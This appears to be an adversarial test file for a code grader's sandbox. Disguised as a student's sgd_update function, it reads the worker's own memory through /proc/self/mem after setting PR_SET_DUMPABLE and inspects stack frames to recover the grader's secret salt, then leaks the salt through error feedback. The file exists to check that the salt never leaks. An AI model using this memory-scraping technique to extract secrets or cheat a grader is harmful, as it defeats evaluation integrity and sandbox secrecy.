# attack: find the batch's secret salt in the worker's own memory (inherited from the processes it was forked from)
# holds: no process a worker is forked from was ever told the salt: the scan finds no candidate that derives the seed it was handed
"""Exercise 3, a student who wants the salt, the one thing that stands between them and the release's stored
outcomes.

The salt is 32 hex digits, and the seed a probe hands the student's function (found in the probe's
frame) is a keyed hash of a check's small seed and the salt, by an algorithm any student can read in
the grader. So every 32-hex-digit string in the worker's memory is a candidate, and a candidate that
derives the seed from one of the small seeds the checks write is the salt. Found, it goes out through
the feedback (and a real attacker would compute the salted inputs of every public check, which still
needs the reference solution's outcomes on them; this attack only measures whether the salt leaks).
"""

import ctypes
import hashlib
import os
import sys

BREACH = "BRE" "ACH!"
HEX = bytes(120 if chr(b) in "0123456789abcdef" else 0 for b in range(256))  # a hex digit → "x", else 0
RUN = b"x" * 32
CHUNK = 16 << 20  # read memory a piece at a time: the worker's memory limit holds


def _derived(seed: int, salt: str) -> int:  # the grader's grader.grading.lab.derived_seed, read in its source
    key = hashlib.sha256(salt.encode()).digest()
    return (1 << 24) + int.from_bytes(hashlib.blake2b(str(seed).encode(), key=key, digest_size=8).digest(),
                                      "big") % (1 << 30)


def _handed_seed():
    frame = sys._getframe(1)
    while frame is not None:
        seed = frame.f_locals.get("seed")
        if type(seed) is int and seed >= 1 << 24:
            return seed
        frame = frame.f_back
    return None


def _candidates():
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: /proc/self/mem readable
    found = set()
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
        for line in maps:
            fields = line.split()
            if not fields[1].startswith("rw") or (len(fields) > 5 and fields[5].startswith("/")):
                continue
            low, high = (int(x, 16) for x in fields[0].split("-"))
            if high - low > 1 << 30:
                continue
            for start in range(low, high, CHUNK):
                try:
                    mem.seek(start)
                    data = mem.read(min(CHUNK + 64, high - start))
                except OSError:
                    break
                found.update(_runs(data))
    return found


def _runs(data: bytes):
    """Every run of exactly 32 hex digits in ``data`` (fast: bytes.translate and find, no regex)."""
    marked, at = data.translate(HEX), 0
    while (at := marked.find(RUN, at)) >= 0:
        end = marked.find(b"\0", at)
        end = len(marked) if end < 0 else end
        if end - at == 32:
            yield data[at:end]
        at = end


def sgd_update(params, lr):
    seed = _handed_seed()
    if seed is None or os.getpid() != 1:
        raise RuntimeError("attack report: handed no salted seed (not graded by an instructor)")
    candidates = _candidates()
    for candidate in candidates:
        salt = candidate.decode()
        if any(_derived(small, salt) == seed for small in range(100)):
            raise RuntimeError(f"attack report: {BREACH} the salt is {salt}")
    raise RuntimeError(f"attack report: none of {len(candidates)} candidates in memory derives seed {seed}")


def sgd_momentum_update(params, velocities, lr, momentum):
    raise NotImplementedError
